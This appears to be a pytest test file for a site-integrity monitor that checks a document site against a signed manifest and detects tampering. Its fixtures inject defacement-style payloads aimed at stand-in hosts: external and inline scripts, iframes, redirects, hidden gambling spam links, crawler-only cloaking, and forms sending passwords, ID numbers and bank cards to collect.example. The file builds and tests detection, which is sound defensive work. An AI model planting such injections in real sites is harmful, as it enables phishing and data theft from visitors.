"""Watching a site from outside: an honest one gives a clean report, and no tampering goes unnoticed."""

from __future__ import annotations

import json
import re
import urllib.request
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from gongkai.core.signing import KEY_FILE, public_text, signing_key
from gongkai.domains.monitor.tasks.fetching import Limits
from gongkai.domains.monitor.tasks.findings import Report
from gongkai.domains.monitor.tasks.watching import Request, watch
from tests.conftest import Site
from tests.domains.monitor.proxies import Asked, Reply, answering, passing_on

AT = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)
BODY = '<div class="paper__body">'


class Kept:
    """The manifest of the served sample, as somebody keeps it on another machine."""

    def __init__(self, served: Site, folder: Path) -> None:
        index = self._get(f"{served.url}/.well-known/gongkai-manifest.json")
        self.index = json.loads(index)["payload"]
        parts = [self._get(f"{served.url}/.well-known/gongkai-manifest/{p['number']}.json") for p in self.index["parts"]]
        self.path = folder / "manifest.jsonl"
        self.path.write_bytes(b"".join(line + b"\n" for line in (index, *parts)))
        self.public = public_text(signing_key(served.data / KEY_FILE))
        self.entries = [entry for part in parts for entry in json.loads(part)["documents"]]

    @staticmethod
    def _get(address: str) -> bytes:
        with urllib.request.urlopen(address, timeout=30) as answer:
            return bytes(answer.read())

    def watch(self, url: str, **asked: object) -> Report:
        return watch(Request(f"{url}/", self.public, self.path, limits=Limits(timeout=10), **asked), AT)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def kept(served: Site, tmp_path_factory: pytest.TempPathFactory) -> Kept:
    return Kept(served, tmp_path_factory.mktemp("kept"))


def told(report: Report) -> list[str]:
    return [f"{f.kind} {f.address} {f.detail}" for f in report.findings]


@pytest.mark.parametrize("cookie", ["", "display=elder", "display=contrast", "display=elder-contrast"])
def test_an_untouched_site_is_clean_in_every_display_mode(served: Site, kept: Kept, cookie: str) -> None:
    report = kept.watch(served.url, cookie=cookie, sample=None if not cookie else 12)
    assert told(report) == []
    assert report.clean
    if not cookie:
        assert report.checked["papers"] == len(kept.entries) > 60
        assert report.checked["files"] == sum(len(e["files"]) for e in kept.entries)
        assert report.checked["sitemap"] >= len(kept.entries)


def test_layout_may_change_around_and_inside_the_paper(served: Site, kept: Kept) -> None:
    def redesign(_: Asked, reply: Reply) -> Reply:
        if reply.headers.get("content-type", "").startswith("text/html"):
            html = reply.text.replace("</p>", "\n  </p>\n\n").replace("<main", '<div class="new-frame"></div><main', 1)
            html = html.replace(BODY, f'{BODY}<nav data-around><a href="#content">回到正文开头</a></nav>')
            reply.text = re.sub(r'class="clause-label"', 'class="clause-label bold"', html)
        return reply

    with answering(passing_on(served.url, redesign)) as url:
        assert told(kept.watch(url, sample=15)) == []


def instead(old: str, new: str) -> Callable[[Reply], None]:
    def change(reply: Reply) -> None:
        assert old in reply.text, old
        reply.text = reply.text.replace(old, new, 1)

    return change


def in_paper(old: str, new: str) -> Callable[[Reply], None]:
    def change(reply: Reply) -> None:
        before, mark, after = reply.text.partition(BODY)
        assert re.search(old, after), old
        reply.text = before + mark + re.sub(old, new, after, count=1)

    return change


def at_end(html: str) -> Callable[[Reply], None]:
    return instead("</body>", f"{html}</body>")


def away(reply: Reply) -> None:
    reply.status, reply.body = 302, b""
    reply.headers = {"location": "https://evil.example/landing"}


def plain(reply: Reply) -> None:
    reply.headers["content-type"] = "text/plain"


def gone(reply: Reply) -> None:
    reply.status = 404


def bare_headers(reply: Reply) -> None:
    reply.headers = {"content-type": "text/html; charset=utf-8"}


# what is done to a paper's page, and what must be found there: kind and a word of the detail
PAGES: dict[str, tuple[Callable[[Reply], None], str, str]] = {
    "one changed character": (in_paper(r"(?<=[一-鿿])的(?=[一-鿿])", "得"), "text", "正文与核准发布的不同"),
    "an invisible character": (in_paper(r"(?<=[一-鿿])的", "的\u200b"), "text", "正文与核准发布的不同"),
    "a paragraph less": (in_paper(r"(?s)<p[^>]*>[^<]{8,}</p>", ""), "text", "正文与核准发布的不同"),
    "a second text": (instead(BODY, f'{BODY}假的正文</div>{BODY}'), "text", "2 处自称正文"),
    "no text at all": (instead(BODY, "<div>"), "text", "没有正文"),
    "a paragraph concealed": (in_paper(r'<p class="', '<p class="govuk-visually-hidden '), "hidden", "被藏起来"),
    "another title": (instead("<h1", "<h1>通知</h1><h2"), "title", "通知"),
    "a hidden link": (
        at_end('<div style="display:none"><a href="http://bet.example/">友情链接</a></div>'), "hidden", "http://bet.example/"),
    "a link off the screen": (
        at_end('<p style="position:absolute;left:-9999px"><a href="http://bet2.example/">好</a></p>'), "hidden", "bet2.example"),
    "white on white": (at_end('<span style="color:#fff">真人荷官</span>'), "hidden", "与底色相同"),
    "a link for machines only": (at_end('<noscript><a href="http://n.example/">n</a></noscript>'), "hidden", "noscript"),
    "a link in a comment": (at_end('<!-- <a href="http://c.example/">c</a> -->'), "hidden", "注释"),
    "a visible link": (at_end('<a href="https://shop.example/buy">购买</a>'), "outside", "shop.example"),
    "a link to a planted page": (at_end('<a href="/zt/2026/x.html">专题</a>'), "inside", "/zt/2026/x.html"),
    "a script from elsewhere": (at_end('<script src="https://evil.example/x.js"></script>'), "script", "evil.example/x.js"),
    "a script of its own": (at_end("<script>location='//evil.example'</script>"), "script", "行内脚本"),
    "a frame": (at_end('<iframe src="https://evil.example/f"></iframe>'), "frame", "evil.example/f"),
    "a style": (at_end("<style>main{display:none}</style>"), "style", "main{display:none}"),
    "a handler": (at_end('<img src="/static/x.png" onerror="go()">'), "handler", "onerror"),
    "a javascript link": (at_end('<a href="JavaScript:go()">查看</a>'), "handler", "JavaScript:go()"),
    "a form to elsewhere": (at_end('<form action="https://evil.example/in"><input name="a"></form>'), "form", "evil.example/in"),
    "a form for a password": (at_end('<form><input type="Password" name="p"></form>'), "form", "密码"),
    "a refresh": (instead("<head>", '<head><meta http-equiv="Refresh" content="0;url=//e.example">'), "refresh", "e.example"),
    "another base": (instead("<head>", '<head><base href="https://evil.example/">'), "refresh", "base"),
    "a title full of spam": (lambda r: setattr(r, "text", re.sub("<title>", "<title>六合彩开奖 真人娱乐 ", r.text)), "spam", "六合彩"),
    "spam beside the paper": (at_end("<p>老虎机 百家乐 网上博彩</p>"), "spam", "老虎机"),
    "a redirect": (away, "redirect", "https://evil.example/landing"),
    "another type": (plain, "type", "text/plain"),
    "a missing page": (gone, "missing", "404"),
    "text behind a NUL": (in_paper(r"(?<=[一-鿿])的", "的\x00"), "text", "正文与核准发布的不同"),
}  # fmt: skip


@pytest.fixture(scope="module")
def tampered(served: Site, kept: Kept) -> Iterator[tuple[Report, str, dict[str, int]]]:
    """One watch of a site on which each kind of tampering was done to another paper."""
    withheld = min(set(range(1, kept.index["last"])) - {e["number"] for e in kept.entries})
    usable = iter(kept.entries[10:])
    victims = {name: next(usable)["number"] for name in PAGES}
    swapped, offering = next(usable), next(usable)["number"]
    by_path = {f"/library/{number}/": PAGES[name][0] for name, number in victims.items()}
    by_path[f"/library/{swapped['number']}/files/{swapped['files'][0]['sha256']}/"] = lambda r: setattr(r, "body", r.body + b"!")
    by_path[f"/library/{offering}/"] = at_end(f'<a href="/library/{offering}/files/{"a" * 64}/">附件</a>')
    by_path["/organs/"] = bare_headers
    by_path[next(iter(kept.index["assets"]))] = lambda r: setattr(r, "body", r.body + b"/* */")

    def alter(asked: Asked, reply: Reply) -> Reply:
        if asked.path.startswith("/sitemap-0"):
            reply.text = reply.text.replace("</urlset>", "<url><loc>https://www.qinghe.example/slots/1.html</loc></url></urlset>")
        if asked.path == "/" and "Baiduspider" in asked.headers.get("user-agent", ""):
            at_end('<a href="http://seo.example/">幸运飞艇</a>')(reply)
        if asked.path in by_path and reply.status == 200:
            by_path[asked.path](reply)
        return reply

    def answer(asked: Asked) -> Reply | None:
        if asked.path == f"/library/{withheld}/":  # a cache in front kept what was withdrawn
            return Reply(body="<html><title>旧文件</title><p>已撤下的文件</p></html>".encode())
        return passing_on(served.url, alter)(asked)

    numbers = {**victims, "swapped": swapped["number"], "offering": offering, "withheld": withheld}
    with answering(answer) as url:
        yield kept.watch(url), url, numbers


@pytest.mark.parametrize("name", PAGES)
def test_what_is_done_to_a_page_is_found_and_named(tampered: tuple[Report, str, dict[str, int]], name: str) -> None:
    report, url, numbers = tampered
    here = [f for f in report.findings if f.address == f"{url}/library/{numbers[name]}/"]
    _, kind, word = PAGES[name]
    assert any(f.kind == kind and word in f.detail for f in here), here


@pytest.mark.parametrize(
    ("kind", "where", "word"),
    [
        ("file", "/library/{swapped}/files/", "SHA-256"),
        ("extra_file", "/library/{offering}/", "aaaa"),
        ("still_there", "/library/{withheld}/", "已撤下"),
        ("planted", "https://www.qinghe.example/slots/1.html", "清单里没有"),
        ("header", "/", "content-security-policy"),
        ("asset", "/static/", "SHA-256"),
        ("two_faces", "/", "seo.example"),
    ],
)
def test_what_is_done_beside_the_pages_is_found_and_named(
    tampered: tuple[Report, str, dict[str, int]], kind: str, where: str, word: str
) -> None:
    report, _, numbers = tampered
    found = [f for f in report.findings if f.kind == kind]
    assert any(where.format(**numbers) in f.address and word in f.detail for f in found), told(report)


def test_nothing_else_is_suspected(tampered: tuple[Report, str, dict[str, int]]) -> None:
    report, url, numbers = tampered
    touched = {f"{url}/library/{n}/" for n in numbers.values()} | {f"{url}/", "https://www.qinghe.example/slots/1.html"}
    others = [f for f in report.findings if f.address not in touched and f.kind not in ("file", "asset")]
    assert others == []


def test_a_copy_is_told_by_its_likeness_and_by_what_differs(served: Site, kept: Kept) -> None:
    def disguise(_: Asked, reply: Reply) -> Reply:
        if reply.headers.get("content-type", "").startswith("text/html"):
            at_end(
                '<form action="http://collect.example/in">身份证号<input name="id">银行卡<input name="card"></form>'
                '<a href="http://pay.example/">缴费</a>'
            )(reply)
        return reply

    stranger = Reply(body="<html><title>某某花店</title><p>鲜花速递，今日下单，明日送达，欢迎选购。</p></html>".encode())
    with answering(passing_on(served.url, disguise)) as copy, answering(lambda _asked: stranger) as shop:
        report = kept.watch(served.url, sample=1, copies=(f"{copy}/library/", f"{shop}/", "http://127.0.0.1:9/"))
    assert [f.address for f in report.findings] == [f"{copy}/library/"]
    (finding,) = report.findings
    assert finding.kind == "copy"
    for word in ("相似度", "标题相同", "本站名称", "徽标", "pay.example", "身份证", "银行卡", "collect.example"):
        assert word in finding.detail, word
    scores = {c.address: c.score for c in report.copies}
    assert scores[f"{copy}/library/"] >= 90
    assert scores[f"{shop}/"] < 10
    assert any("没有比成" in note for note in report.notes)


def test_a_site_put_back_to_an_older_state_is_noticed(served: Site, kept: Kept, tmp_path: Path) -> None:
    from gongkai.core.signing import signed

    newer = {**kept.index, "changed_at": "2999-01-01T00:00:00+00:00"}
    lines = kept.path.read_bytes().split(b"\n")
    lines[0] = signed(newer, signing_key(served.data / KEY_FILE))
    path = tmp_path / "newer.jsonl"
    path.write_bytes(b"\n".join(lines))
    report = watch(Request(f"{served.url}/", kept.public, path, sample=1), AT)
    assert [(f.kind, "回退" in f.detail) for f in report.findings] == [("manifest", True)]


def test_a_manifest_of_another_key_or_none_at_all_ends_the_watch(served: Site, kept: Kept) -> None:
    stranger = watch(Request(f"{served.url}/", "ab" * 32), AT)
    assert [f.kind for f in stranger.findings] == ["manifest"]
    assert "另一把密钥" in stranger.findings[0].detail
    with answering(lambda _asked: Reply(404)) as empty:
        report = watch(Request(f"{empty}/", kept.public), AT)
    assert [f.kind for f in report.findings] == ["manifest"]


def test_a_part_changed_on_its_way_is_refused(served: Site, kept: Kept) -> None:
    def alter(asked: Asked, reply: Reply) -> Reply:
        if asked.path.startswith("/.well-known/gongkai-manifest/"):
            reply.body = reply.body.replace(b'"number":1,', b'"number":9,', 1)
        return reply

    with answering(passing_on(served.url, alter)) as url:
        report = watch(Request(f"{url}/", kept.public), AT)
    assert [f.kind for f in report.findings] == ["manifest"]


def test_only_what_changed_since_a_day_is_looked_at(served: Site, kept: Kept) -> None:
    assert kept.watch(served.url, since="2999-01-01", sample=1).checked.get("papers", 0) == 0


def test_a_dead_site_and_a_huge_page_become_findings(served: Site, kept: Kept) -> None:
    def huge(asked: Asked, reply: Reply) -> Reply | None:
        if asked.path == "/":
            reply.body += b" " * 300_000
        return None if asked.path == "/organs/" else reply

    with answering(passing_on(served.url, huge)) as url:
        limits = Limits(timeout=10, page_size=250_000)
        report = watch(Request(f"{url}/", kept.public, kept.path, sample=1, limits=limits), AT)
    assert any(f.kind == "missing" and f.address == f"{url}/" and "没有读完" in f.detail for f in report.findings)
    dead = watch(Request("http://127.0.0.1:9/", kept.public, kept.path, sample=3), AT)
    assert sum(f.kind == "missing" for f in dead.findings) >= 3
